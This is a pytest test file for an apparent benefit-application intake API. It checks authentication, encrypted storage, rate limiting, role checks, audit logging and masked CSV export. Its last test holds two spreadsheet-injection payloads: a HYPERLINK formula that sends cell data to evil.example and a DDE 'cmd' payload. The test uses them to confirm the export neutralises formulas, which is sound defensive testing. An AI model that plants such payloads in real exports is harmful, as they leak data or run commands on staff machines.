"""Intake storage through the gateway API: idempotent submission, status queries, staff access and audit."""

from __future__ import annotations

from sqlalchemy import func, select

from bot.rules.id_card import id_check_digit
from bot.services import applications
from bot.storage.models import Application, AuditEntry
from tests.api.conftest import INTERNAL, login


def valid_id(first17: str = "23108119800101001") -> str:
    return first17 + id_check_digit(first17)


def submission(**overrides) -> dict:
    body = {
        "idempotency_key": "form-token-0001",
        "sender_id": "resident1",
        "benefit": "care_subsidy",
        "region": "潞城区",
        "applicant_name": "王秀英",
        "id_number": valid_id(),
        "card_number": valid_id() + "42",
        "phone": "13800138000",
        "town": "潞华街道",
        "address": "东街12号",
        "household": "低保",
        "for_self": True,
    }
    return body | overrides


def count_applications(client) -> int:
    with client.app.state.sessions() as session:
        return session.scalar(select(func.count()).select_from(Application))


def test_internal_api_needs_the_shared_secret(client) -> None:
    assert client.post("/internal/applications", json=submission()).status_code == 401
    assert (
        client.post("/internal/applications", json=submission(), headers={"X-Internal-Token": "x"}).status_code == 401
    )


def test_submission_is_stored_once_and_encrypted(client) -> None:
    first = client.post("/internal/applications", json=submission(), headers=INTERNAL)
    assert first.status_code == 201 and first.json()["created"] is True
    reference = first.json()["reference"]
    assert len(reference) == 8 and reference.isdigit()
    retry = client.post("/internal/applications", json=submission(), headers=INTERNAL)
    assert retry.status_code == 200 and retry.json() == {**first.json(), "created": False}
    assert count_applications(client) == 1
    with client.app.state.sessions() as session:
        stored = session.scalar(select(Application))
        assert valid_id() not in stored.personal_enc and "13800138000" not in stored.personal_enc
        assert "王秀英" not in stored.personal_enc and "东街12号" not in stored.personal_enc
        assert stored.details == {"for_self": True, "town": "潞华街道"}
        cipher = client.app.state.cipher
        assert stored.id_number_hash == cipher.lookup_hash(valid_id())
        assert stored.phone_hash == cipher.lookup_hash("13800138000")
        personal = applications.personal_data(stored, cipher)
        assert personal["disability_category"] == "肢体" and personal["disability_level"] == 2
        assert personal["household"] == "低保" and personal["applicant_name"] == "王秀英"
        assert [c.to_status for c in stored.changes] == ["submitted"]


def test_invalid_id_is_refused_and_nothing_is_stored(client) -> None:
    bad = valid_id()[:-1] + ("0" if valid_id()[-1] != "0" else "1")
    response = client.post("/internal/applications", json=submission(id_number=bad, card_number=None), headers=INTERNAL)
    assert response.status_code == 422 and response.json()["field"] == "id_number"
    assert "校验" in response.json()["detail"]
    assert count_applications(client) == 0


def test_card_number_must_start_with_the_id(client) -> None:
    other = valid_id("23108119900101002")
    response = client.post("/internal/applications", json=submission(card_number=other + "42"), headers=INTERNAL)
    assert response.status_code == 422 and response.json()["field"] == "card_number"


def test_status_needs_reference_and_phone_and_is_rate_limited(client) -> None:
    reference = client.post("/internal/applications", json=submission(), headers=INTERNAL).json()["reference"]
    ask = {"sender_id": "resident1", "reference": reference, "phone_last4": "8000"}
    found = client.post("/internal/applications/status", json=ask, headers=INTERNAL).json()
    assert found["found"] is True and found["status"] == "submitted"
    wrong_phone = client.post("/internal/applications/status", json=ask | {"phone_last4": "1111"}, headers=INTERNAL)
    wrong_ref = client.post("/internal/applications/status", json=ask | {"reference": "99999999"}, headers=INTERNAL)
    assert wrong_phone.json() == wrong_ref.json() == {"found": False, "blocked": False}  # no enumeration
    guesser = ask | {"sender_id": "guesser", "phone_last4": "0000"}
    for _ in range(5):
        client.post("/internal/applications/status", json=guesser, headers=INTERNAL)
    blocked = client.post("/internal/applications/status", json=guesser | {"phone_last4": "8000"}, headers=INTERNAL)
    assert blocked.json() == {"found": False, "blocked": True}


def test_staff_endpoints_check_roles(client) -> None:
    reference = client.post("/internal/applications", json=submission(), headers=INTERNAL).json()["reference"]
    endpoints = [
        ("get", "/api/applications", None),
        ("get", f"/api/applications/{reference}", None),
        ("patch", f"/api/applications/{reference}", {"status": "under_review", "note": ""}),
        ("get", "/api/applications/export.csv", None),
    ]
    operator = login(client, "op1")
    client.cookies.clear()  # the sign-in also set the pages' session cookie; these requests carry no credentials
    for method, path, body in endpoints:
        assert client.request(method, path, json=body).status_code == 401
        assert client.request(method, path, json=body, headers={"Authorization": "Bearer nonsense"}).status_code == 401
        assert client.request(method, path, json=body, headers=operator).status_code == 403
    assert client.post("/api/auth/token", data={"username": "staff1", "password": "wrong"}).status_code == 401


def test_staff_read_is_audited_and_list_is_masked(client) -> None:
    reference = client.post("/internal/applications", json=submission(), headers=INTERNAL).json()["reference"]
    staff = login(client, "staff1")
    listing = client.get("/api/applications", params={"status": "submitted", "region": "潞城区"}, headers=staff).json()
    assert listing["total"] == 1
    item = listing["items"][0]
    assert item["phone"] == "138****8000" and valid_id() not in str(item)
    full = client.get(f"/api/applications/{reference}", headers=staff).json()
    assert full["id_number"] == valid_id() and full["address"] == "东街12号"
    with client.app.state.sessions() as session:
        reads = session.scalars(select(AuditEntry).where(AuditEntry.action == "application.read")).all()
        assert [(r.actor, r.target) for r in reads] == [("staff1", reference)]
    assert client.get("/api/applications", params={"benefit": "child_rehab"}, headers=staff).json()["total"] == 0


def test_status_lifecycle_is_enforced_and_recorded(client) -> None:
    reference = client.post("/internal/applications", json=submission(), headers=INTERNAL).json()["reference"]
    admin = login(client, "admin1")
    assert client.patch(f"/api/applications/{reference}", json={"status": "approved"}, headers=admin).status_code == 409
    for step in ("under_review", "need_more_info", "under_review", "approved"):
        response = client.patch(
            f"/api/applications/{reference}", json={"status": step, "note": f"n-{step}"}, headers=admin
        )
        assert response.status_code == 200 and response.json()["status"] == step
    history = client.get(f"/api/applications/{reference}", headers=admin).json()["history"]
    assert [(h["from"], h["to"]) for h in history] == [
        (None, "submitted"), ("submitted", "under_review"), ("under_review", "need_more_info"),
        ("need_more_info", "under_review"), ("under_review", "approved"),
    ]  # fmt: skip
    assert all(h["actor"] == "admin1" for h in history[1:])


def test_csv_export_is_masked(client) -> None:
    client.post("/internal/applications", json=submission(), headers=INTERNAL)
    response = client.get("/api/applications/export.csv", headers=login(client, "staff1"))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "138****8000" in response.text and "13800138000" not in response.text


def test_a_non_name_is_never_stored(client) -> None:
    for word in ("提交", "确认", "不知道", "是的", "取消"):
        response = client.post("/internal/applications", json=submission(applicant_name=word), headers=INTERNAL)
        assert response.status_code == 422 and response.json()["field"] == "applicant_name"
    assert count_applications(client) == 0


def test_new_benefits_store_their_own_fields_and_proxies_need_theirs(client) -> None:
    fuel = submission(benefit="fuel_subsidy", vehicle="机动轮椅车", driving_licence="有", idempotency_key="fuel-0001")
    reference = client.post("/internal/applications", json=fuel, headers=INTERNAL).json()["reference"]
    staff = login(client, "staff1")
    full = client.get(f"/api/applications/{reference}", headers=staff).json()
    assert full["vehicle"] == "机动轮椅车" and full["driving_licence"] == "有" and full["device"] is None
    missing = submission(benefit="care_service", idempotency_key="care-0001")
    response = client.post("/internal/applications", json=missing, headers=INTERNAL)
    assert response.status_code == 422 and response.json()["field"] == "care_mode"
    family = submission(for_self=False, idempotency_key="family-0001", proxy_name="李秀芬", proxy_relation="父亲")
    response = client.post("/internal/applications", json=family, headers=INTERNAL)
    assert response.status_code == 422 and response.json()["field"] == "proxy_phone"
    wrong_vocabulary = submission(for_self=False, proxy_name="李秀芬", proxy_relation="爸爸", proxy_phone="13900000000")
    assert client.post("/internal/applications", json=wrong_vocabulary, headers=INTERNAL).status_code == 422


def test_csv_export_cells_are_never_formulas(client) -> None:
    """Issue 11 (low): a town typed as =HYPERLINK(…) became a live formula in the staff's spreadsheet."""
    import csv
    import io

    attacks = {"town": '=HYPERLINK("http://evil.example/?"&A1,"点这里")', "address": "+1+cmd|' /C calc'!A0"}
    assert client.post("/internal/applications", json=submission(**attacks), headers=INTERNAL).status_code == 201
    response = client.get("/api/applications/export.csv", headers=login(client, "staff1"))
    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert cells and not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
